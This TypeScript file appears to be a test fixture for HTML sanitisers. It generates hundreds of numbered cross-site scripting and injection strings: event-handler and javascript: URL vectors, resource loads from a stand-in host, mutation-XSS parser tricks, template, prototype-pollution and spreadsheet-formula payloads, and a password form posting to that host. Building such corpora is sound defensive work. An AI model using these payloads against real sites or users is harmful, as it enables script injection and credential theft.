/**
 * Texts that try to run or load code: all known injection vectors, in families. Each calls `pwned(n)` or loads
 * `https://böse.example/n`, where n is its number, so that a test can identify a successful one.
 */

const host = 'https://boese.example'

/** Variants of one call. */
const runs = (n: number): readonly string[] => [
  `pwned(${n})`,
  `window['pwned'](${n})`,
  `top.pwned(${n})`,
  `&#112;wned(${n})`,
  `\\u0070wned(${n})`,
]

type Family = (n: number) => string

const handlers = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart'],
  ...['onpointerenter', 'onscroll', 'onwheel', 'onauxclick', 'onbeforetoggle', 'oncontentvisibilityautostatechange'],
]
const carriers = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
  'a href=# tabindex=0 autofocus',
  'p',
  'strong',
]

const byHandler: readonly Family[] = handlers.flatMap((name) =>
  carriers.map(
    (carrier): Family =>
      (n) =>
        `<${carrier} ${name}=pwned(${n})>Text</${carrier.split(' ')[0] ?? ''}>`,
  ),
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;&#x61;vascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript&#58;',
  'vbscript:',
  'livescript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'blob:https://boese.example/',
  'filesystem:https://boese.example/',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
]
const addressed = [
  (address: string) => `<a href="${address}">Text</a>`,
  (address: string) => `<img src="${address}" alt="Bild">`,
  (address: string) => `<form action="${address}"><button autofocus>Text</button></form>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>Text</text></a></svg>`,
]
const byScheme: readonly Family[] = schemes.flatMap((scheme) =>
  addressed.map(
    (tag): Family =>
      (n) =>
        tag(`${scheme}pwned(${n})`),
  ),
)

const loading: readonly Family[] = [
  (n) => `<img src="${host}/${n}" alt="Bild">`,
  (n) => `<img srcset="${host}/${n} 1x" alt="Bild">`,
  (n) => `<picture><source srcset="${host}/${n}"><img alt="Bild"></picture>`,
  (n) => `<img src="//boese.example/${n}" alt="Bild">`,
  (n) => `<img src="\\\\boese.example/${n}" alt="Bild">`,
  (n) => `<img src="/\\boese.example/${n}" alt="Bild">`,
  (n) => `<img lowsrc="${host}/${n}" dynsrc="${host}/${n}" alt="Bild">`,
  (n) => `<image src="${host}/${n}">`,
  (n) => `<video poster="${host}/${n}" src="${host}/${n}" autoplay></video>`,
  (n) => `<audio src="${host}/${n}" autoplay></audio>`,
  (n) => `<video><source src="${host}/${n}"><track src="${host}/${n}" default></video>`,
  (n) => `<iframe src="${host}/${n}"></iframe>`,
  (n) => `<iframe srcdoc="<script>pwned(${n})</script>"></iframe>`,
  (n) => `<frameset><frame src="${host}/${n}"></frameset>`,
  (n) => `<object data="${host}/${n}"></object>`,
  (n) => `<embed src="${host}/${n}">`,
  (n) => `<applet code="${host}/${n}"></applet>`,
  (n) => `<link rel="stylesheet" href="${host}/${n}">`,
  (n) => `<link rel="preload" as="image" href="${host}/${n}">`,
  (n) => `<link rel="prefetch" href="${host}/${n}">`,
  (n) => `<link rel="dns-prefetch" href="${host}/${n}">`,
  (n) => `<link rel="modulepreload" href="${host}/${n}">`,
  (n) => `<link rel="manifest" href="${host}/${n}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${host}/${n}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:pwned(${n})">`,
  (n) => `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${host}/${n}">`,
  (n) => `<base href="${host}/${n}/"><a href="x">Text</a>`,
  (n) => `<style>@import "${host}/${n}";</style>`,
  (n) => `<style>p{background:url(${host}/${n})}</style><p>Text</p>`,
  (n) => `<style>@font-face{font-family:x;src:url(${host}/${n})}p{font-family:x}</style>`,
  (n) => `<p style="background:url(${host}/${n})">Text</p>`,
  (n) => `<p style="background:u\\72l(${host}/${n})">Text</p>`,
  (n) => `<p style="list-style-image:url('${host}/${n}')">Text</p>`,
  (n) => `<p style="width:expression(pwned(${n}))">Text</p>`,
  (n) => `<p style="behavior:url(${host}/${n})">Text</p>`,
  (n) => `<p style="-moz-binding:url(${host}/${n}#x)">Text</p>`,
  (n) => `<table background="${host}/${n}"><tr><td background="${host}/${n}">Text</td></tr></table>`,
  (n) => `<body background="${host}/${n}">`,
  (n) => `<input type="image" src="${host}/${n}">`,
  (n) => `<a ping="${host}/${n}" href="#">Text</a>`,
  (n) => `<a href="#" attributionsrc="${host}/${n}">Text</a>`,
  (n) => `<form action="${host}/${n}" id="f"><input name="passwort"></form><button form="f" autofocus>Weiter</button>`,
  (n) => `<button formaction="${host}/${n}">Text</button>`,
  (n) => `<isindex action="javascript:pwned(${n})" type="image">`,
  (n) => `<portal src="${host}/${n}"></portal>`,
  (n) => `<dialog open><img src="${host}/${n}"></dialog>`,
  (n) => `<template shadowrootmode="open"><img src="${host}/${n}" onerror="pwned(${n})"></template>`,
  (n) => `<svg><image href="${host}/${n}"/></svg>`,
  (n) => `<svg><image xlink:href="${host}/${n}"/></svg>`,
  (n) => `<svg><use href="${host}/${n}#x"/></svg>`,
  (n) => `<svg><feImage href="${host}/${n}"/></svg>`,
  (n) => `<svg><style>@import url(${host}/${n})</style></svg>`,
  (n) => `<svg><script href="${host}/${n}"/></svg>`,
  (n) => `<svg><foreignObject><iframe src="${host}/${n}"></iframe></foreignObject></svg>`,
  (n) => `<svg><animate attributeName="href" values="javascript:pwned(${n})"/><a><text>x</text></a></svg>`,
  (n) => `<svg><set attributeName="onload" to="pwned(${n})"/></svg>`,
  (n) => `<svg onload=pwned(${n})>`,
  (n) => `<math href="javascript:pwned(${n})">Text</math>`,
  (n) =>
    `<math><maction actiontype="statusline#${host}/${n}" xlink:href="javascript:pwned(${n})">Text</maction></math>`,
  (n) => `<?xml-stylesheet href="javascript:pwned(${n})"?>`,
  (n) => `<!DOCTYPE x [<!ENTITY y SYSTEM "${host}/${n}">]><p>&y;</p>`,
]

const scripts: readonly Family[] = [0, 1, 2, 3, 4].flatMap((way): readonly Family[] => [
  (n) => `<script>${runs(n)[way] ?? ''}</script>`,
  (n) => `<SCRIPT SRC="${host}/${n}"></SCRIPT><script>${runs(n)[way] ?? ''}</script>`,
  (n) => `<scr<script>ipt>${runs(n)[way] ?? ''}</scr</script>ipt>`,
  (n) => `<script/x>${runs(n)[way] ?? ''}</script/x>`,
  (n) => `<<script>${runs(n)[way] ?? ''}//<</script>`,
  (n) => `<script\u0000>${runs(n)[way] ?? ''}</script>`.replace('\u0000', '\u000c'),
  (n) => `"><script>${runs(n)[way] ?? ''}</script>`,
  (n) => `'-${runs(n)[way] ?? ''}-'`,
  (n) => `</textarea></title></style></script><script>${runs(n)[way] ?? ''}</script>`,
  (n) => `--><script>${runs(n)[way] ?? ''}</script><!--`,
])

/** Texts that sanitisers and browsers parse differently. */
const mutations: readonly Family[] = [
  (n) => `<noscript><p title="</noscript><img src=x onerror=pwned(${n})>"></noscript>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=pwned(${n})></style></mglyph></table></mtext></math>`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=pwned(${n})>"></svg>`,
  (n) => `<svg><p><style><!--</style><img src=x onerror=pwned(${n})>--></style></svg>`,
  (n) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(${n})></style></mglyph></form></math>`,
  (n) => `<table><td><a href="x"><table><img src=x onerror=pwned(${n})></table></a></td></table>`,
  (n) => `<select><option><img src=x onerror=pwned(${n})></option></select>`,
  (n) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=pwned(${n})>">`,
  (n) => `<textarea><img src=x onerror=pwned(${n})></textarea>`,
  (n) => `<title><img src=x onerror=pwned(${n})></title>`,
  (n) => `<xmp><img src=x onerror=pwned(${n})></xmp>`,
  (n) => `<xmp><p title="</xmp><img src=x onerror=pwned(${n})>"></xmp>`,
  (n) => `<noembed><img src=x onerror=pwned(${n})></noembed>`,
  (n) => `<plaintext><img src=x onerror=pwned(${n})>`,
  (n) => `<listing>&lt;img src=x onerror=pwned(${n})&gt;</listing>`,
  (n) => `<p>&lt;img src=x onerror=pwned(${n})&gt;</p>`,
  (n) => `<p>&amp;lt;script&amp;gt;pwned(${n})&amp;lt;/script&amp;gt;</p>`,
  (n) => `&#60;script&#62;pwned(${n})&#60;/script&#62;`,
  (n) => `%3Cscript%3Epwned(${n})%3C/script%3E`,
  (n) => `\\x3cscript\\x3epwned(${n})\\x3c/script\\x3e`,
  (n) => `\\u003cscript\\u003epwned(${n})\\u003c/script\\u003e`,
  (n) => `+ADw-script+AD4-pwned(${n})+ADw-/script+AD4-`,
  (n) => `＜script＞pwned(${n})＜/script＞`,
  (n) => `<img src="x\`onerror=pwned(${n})\`" alt="Bild">`,
  (n) => `<img alt="\`<img src=x onerror=pwned(${n})>" src=x>`,
  (n) => `<a title="</a><img src=x onerror=pwned(${n})>" href="https://a.example">Text</a>`,
  (n) => `<a title='"><img src=x onerror=pwned(${n})>' href="https://a.example">Text</a>`,
  (n) => `<a href="https://a.example" title="x" title="y" onclick="pwned(${n})" href="javascript:pwned(${n})">Text</a>`,
  (n) => `<p><!--[if gte IE 4]><script>pwned(${n})</script><![endif]--></p>`,
  (n) => `<![CDATA[<script>pwned(${n})</script>]]>`,
  (n) => `<!--><img src=x onerror=pwned(${n})>-->`,
  (n) => `<!--><img src=x onerror=pwned(${n})//-->`,
  (n) => `<a/href="javascript:pwned(${n})"/onfocus=pwned(${n})/autofocus>Text`,
  (n) => `<img\nsrc=x\nonerror=pwned(${n})\n>`,
  (n) => `<img/src=x/onerror=pwned(${n})>`,
  (n) => `<IMG """><SCRIPT>pwned(${n})</SCRIPT>"\\>`,
  (n) => `<img src=x onerror="&#112;&#119;&#110;&#101;&#100;(${n})">`,
  (n) =>
    `<p id="pwned" name="body" class="MuiDialog-root">Text</p><img name="getElementById"><form name="body" id="cookie"></form>`.concat(
      `<img src=x onerror=pwned(${n})>`,
    ),
]

/** Texts that templates, tables and formulas might evaluate. */
const templates: readonly Family[] = [
  (n) => `{{constructor.constructor('pwned(${n})')()}}`,
  (n) => `\${pwned(${n})}`,
  (n) => `#{pwned(${n})}`,
  (n) => `<%= pwned(${n}) %>`,
  (n) => `{% raw %}pwned(${n}){% endraw %}`,
  (n) => `{{{pwned(${n})}}}`,
  (n) => `[[pwned(${n})]]`,
  (n) => `=HYPERLINK("${host}/${n}","Text")`,
  (n) => `@SUM(1+1)*cmd|' /C calc'!A${n}`,
  (n) => `{"__proto__":{"pwned":${n}}}`,
  (n) => `__proto__ constructor ${n}`,
  (n) => `%27%22;pwned(${n});//`,
  (n) => `';pwned(${n});'`,
  (n) => `\`;pwned(${n});\``,
  (n) => `</script><script>pwned(${n})</script>`,
  (n) => `\u2028pwned(${n})\u2029`,
  (n) => `\u202e)${n}(denwp\u202c`,
  (n) => `<p>{{ n }} <a href="{{javascript:pwned(${n})}}">Text</a></p>`,
]

/** At least three hundred, each with its number. */
export const hostileSnippets: readonly string[] = [
  ...byHandler,
  ...byScheme,
  ...loading,
  ...scripts,
  ...mutations,
  ...templates,
].map((family, n) => family(n))
